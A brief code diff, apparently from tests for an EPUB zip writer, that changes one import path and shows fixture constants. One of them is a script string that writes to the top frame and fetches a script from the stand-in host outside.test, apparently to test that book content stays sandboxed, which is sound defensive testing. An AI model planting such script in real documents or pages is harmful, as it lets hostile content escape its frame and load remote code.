@@ -1,4 +1,4 @@
-import { writeZip } from '#server/epub/zip-writer.ts'
+import { writeZip } from '#server/engines/epub/zip-writer.ts'
 
 const outside = 'http://outside.test'
 const shout = "top.shouted=1;fetch('http://outside.test/script')"
